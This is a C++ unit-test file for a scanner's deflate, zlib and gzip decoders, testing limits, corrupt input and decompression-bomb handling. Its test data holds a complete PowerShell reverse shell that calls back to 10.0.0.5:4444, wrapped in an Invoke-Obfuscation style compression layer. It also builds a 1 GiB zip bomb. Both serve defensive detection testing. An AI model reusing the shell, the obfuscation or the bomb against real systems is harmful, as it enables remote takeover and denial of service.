#include "decoders/deflate.h"

#include <zlib.h>

#include <chrono>
#include <random>
#include <string>

#include "decoders/base64.h"
#include "decoders/text_encoding.h"
#include "gtest/gtest.h"
#include "tests/decoders/test_util.h"

namespace sbscan::decoders {
namespace {

// Compresses with zlib: window_bits -15 raw (DeflateStream), 15 zlib,
// 31 gzip (GZipStream).
std::string Compress(std::string_view data, int window_bits, int level = 9) {
  z_stream zs{};
  EXPECT_EQ(deflateInit2(&zs, level, Z_DEFLATED, window_bits, 8,
                         Z_DEFAULT_STRATEGY),
            Z_OK);
  std::string out(deflateBound(&zs, data.size()) + 64, '\0');
  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  zs.avail_in = static_cast<uInt>(data.size());
  zs.next_out = reinterpret_cast<Bytef*>(out.data());
  zs.avail_out = static_cast<uInt>(out.size());
  EXPECT_EQ(deflate(&zs, Z_FINISH), Z_STREAM_END);
  out.resize(zs.total_out);
  deflateEnd(&zs);
  return out;
}

const char kScript[] =
    "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.5',4444);"
    "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
    "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
    "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString("
    "$bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );"
    "$stream.Write(([text.encoding]::ASCII).GetBytes($sendback),0,"
    "$sendback.Length);$stream.Flush()};$client.Close()";

TEST(DeflateTest, InvokeObfuscationCompress) {
  // Invoke-Obfuscation COMPRESS: the script is deflated (raw), Base64'd and
  // wrapped in IO.Compression.DeflateStream ... ReadToEnd().
  const std::string payload = testing::Base64Encode(Compress(kScript, -15));
  const std::string layer =
      ".((gv '*mdr*').NaMe[3,11,2]-JOIN'')(NEW-oBJeCt IO.StReaMReADER("
      "(NEW-oBJeCt IO.COMpReSSion.DEFlATEStReAM([IO.mEMoRYstReAm] "
      "[COnVeRT]::frOMbASE64stRINg('" + payload + "' ),[SYStem.iO."
      "CoMPResSION.COMPResSiOnmODE]::DeCOMpReSS)),[TEXt.eNcODiNG]::AsCIi))."
      "rEADtoeNd()";
  const size_t b = layer.find(payload);
  std::string bytes;
  ASSERT_EQ(DecodeBase64(std::string_view(layer).substr(b, payload.size()),
                         1 << 20, &bytes),
            Outcome::kDecoded);
  std::string out;
  std::string_view format;
  EXPECT_EQ(DecompressAuto(bytes, 1 << 20, &out, &format), Outcome::kDecoded);
  EXPECT_EQ(format, "deflate");
  EXPECT_EQ(out, kScript);
}

TEST(DeflateTest, EmpireAndMetasploitGzip) {
  // Metasploit's psh-net / Empire stagers: GzipStream over the Base64 of a
  // gzip member; sometimes of UTF-16LE text.
  const std::string utf16 = testing::Utf16le(kScript);
  std::string out;
  std::string_view format;
  EXPECT_EQ(DecompressAuto(Compress(utf16, 31), 1 << 20, &out, &format),
            Outcome::kDecoded);
  EXPECT_EQ(format, "gzip");
  EXPECT_EQ(out, utf16);
  EXPECT_EQ(ClassifyBytes(out), TextEncoding::kUtf16le);
  out.clear();
  EXPECT_EQ(Gunzip(Compress(kScript, 31, 1), 1 << 20, &out),
            Outcome::kDecoded);
  EXPECT_EQ(out, kScript);
}

TEST(DeflateTest, Zlib) {
  for (int level : {1, 6, 9}) {
    const std::string z = Compress(kScript, 15, level);
    EXPECT_TRUE(LooksLikeZlib(z));
    EXPECT_FALSE(LooksLikeGzip(z));
    std::string out;
    std::string_view format;
    EXPECT_EQ(DecompressAuto(z, 1 << 20, &out, &format), Outcome::kDecoded);
    EXPECT_EQ(format, "zlib");
    EXPECT_EQ(out, kScript);
  }
}

TEST(DeflateTest, AppendsAndKeepsPrefix) {
  std::string out = "prefix:";
  EXPECT_EQ(InflateRaw(Compress("abc", -15), 100, &out), Outcome::kDecoded);
  EXPECT_EQ(out, "prefix:abc");
}

TEST(DeflateTest, LimitKeepsExactPrefix) {
  std::string out;
  EXPECT_EQ(InflateRaw(Compress(kScript, -15), 100, &out),
            Outcome::kLimitReached);
  EXPECT_EQ(out, std::string(kScript, 100));
  out.clear();
  const size_t n = sizeof(kScript) - 1;
  EXPECT_EQ(InflateRaw(Compress(kScript, -15), n, &out), Outcome::kDecoded);
  EXPECT_EQ(out.size(), n);
}

TEST(DeflateTest, BombStoppedAtLimit) {
  // 1 GiB of zeros compresses to ~1 MiB (deflate's best ratio is ~1032:1).
  // Once the window is all zeros, each sync-flushed 1 MiB chunk of zeros
  // compresses to the same bytes: compress three chunks and repeat the
  // third, so the test neither holds nor compresses the gigabyte.
  z_stream zs{};
  ASSERT_EQ(deflateInit2(&zs, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY),
            Z_OK);
  const std::string zeros(1 << 20, '\0');
  const auto step = [&](std::string_view in, int flush) {
    std::string piece;
    char buf[1 << 16];
    zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
    zs.avail_in = static_cast<uInt>(in.size());
    do {
      zs.next_out = reinterpret_cast<Bytef*>(buf);
      zs.avail_out = sizeof(buf);
      deflate(&zs, flush);
      piece.append(buf, sizeof(buf) - zs.avail_out);
    } while (zs.avail_out == 0);
    return piece;
  };
  const std::string a = step(zeros, Z_SYNC_FLUSH);
  const std::string b = step(zeros, Z_SYNC_FLUSH);
  const std::string c = step(zeros, Z_SYNC_FLUSH);
  ASSERT_EQ(b, c);
  const std::string tail = step("", Z_FINISH);
  deflateEnd(&zs);
  std::string bomb = a;
  for (int i = 1; i < 1024; ++i) bomb += b;
  bomb += tail;
  {  // The construction is right: the whole bomb inflates to 1 GiB.
    z_stream check{};
    ASSERT_EQ(inflateInit2(&check, -15), Z_OK);
    check.next_in = reinterpret_cast<Bytef*>(bomb.data());
    check.avail_in = static_cast<uInt>(bomb.size());
    std::string sink(1 << 20, '\0');
    int rc;
    do {
      check.next_out = reinterpret_cast<Bytef*>(sink.data());
      check.avail_out = static_cast<uInt>(sink.size());
      rc = inflate(&check, Z_NO_FLUSH);
    } while (rc == Z_OK);
    EXPECT_EQ(rc, Z_STREAM_END);
    EXPECT_EQ(check.total_out, uint64_t{1} << 30);
    inflateEnd(&check);
  }
  ASSERT_LT(bomb.size(), 8u << 20);
  const auto start = std::chrono::steady_clock::now();
  std::string out;
  const size_t limit = 16 << 20;
  EXPECT_EQ(InflateRaw(bomb, limit, &out), Outcome::kLimitReached);
  EXPECT_EQ(out.size(), limit);
  EXPECT_LE(out.capacity(), limit + 64);
  EXPECT_EQ(out.find_first_not_of('\0'), std::string::npos);
  const double seconds = std::chrono::duration<double>(
                             std::chrono::steady_clock::now() - start)
                             .count();
  EXPECT_LT(seconds, 1.0);
  // Its first 1 KiB alone: stops at the limit too.
  out.clear();
  EXPECT_EQ(InflateRaw(std::string_view(bomb).substr(0, 1024), 64 << 10, &out),
            Outcome::kLimitReached);
  EXPECT_EQ(out.size(), 64u << 10);
}

TEST(DeflateTest, TruncatedIsMalformedWithPrefix) {
  const std::string z = Compress(std::string(kScript) + kScript, -15, 0);
  std::string out;
  EXPECT_EQ(InflateRaw(std::string_view(z).substr(0, z.size() / 2), 1 << 20,
                       &out),
            Outcome::kMalformed);
  EXPECT_GT(out.size(), 0u);  // stored block: a genuine prefix
  EXPECT_EQ(out, std::string(kScript).substr(0, out.size()));
  for (int wb : {-15, 15, 31}) {
    const std::string c = Compress(kScript, wb);
    for (size_t cut : {size_t{1}, c.size() / 2, c.size() - 1}) {
      std::string o;
      std::string_view f;
      const Outcome r = DecompressAuto(std::string_view(c).substr(0, cut),
                                       1 << 20, &o, &f);
      EXPECT_TRUE(r == Outcome::kMalformed || r == Outcome::kNotApplicable)
          << wb << " " << cut;
    }
  }
}

TEST(DeflateTest, CorruptIsMalformed) {
  std::string g = Compress(kScript, 31);
  g[g.size() - 6] ^= 0x55;  // CRC-32
  std::string out;
  EXPECT_EQ(Gunzip(g, 1 << 20, &out), Outcome::kMalformed);
  std::string z = Compress(kScript, 15);
  z.back() ^= 1;  // Adler-32
  out.clear();
  EXPECT_EQ(InflateZlib(z, 1 << 20, &out), Outcome::kMalformed);
  out.clear();
  EXPECT_EQ(InflateRaw("\xff\xff\xff\xff", 100, &out), Outcome::kMalformed);
  out.clear();
  std::string_view format;
  EXPECT_EQ(DecompressAuto("", 100, &out, &format), Outcome::kNotApplicable);
  EXPECT_EQ(DecompressAuto("\x07\x00", 100, &out, &format),
            Outcome::kNotApplicable);  // reserved block type
  EXPECT_EQ(InflateRaw("", 100, &out), Outcome::kNotApplicable);
}

TEST(DeflateTest, RandomBytesRarelyInflate) {
  std::mt19937 rng(3);
  int decoded = 0;
  for (int t = 0; t < 1000; ++t) {
    std::string b(64 + rng() % 512, '\0');
    for (char& c : b) c = static_cast<char>(rng());
    std::string out;
    std::string_view format;
    const Outcome r = DecompressAuto(b, 1 << 16, &out, &format);
    if (r == Outcome::kDecoded || r == Outcome::kLimitReached) ++decoded;
  }
  EXPECT_LE(decoded, 5);
}

}  // namespace
}  // namespace sbscan::decoders
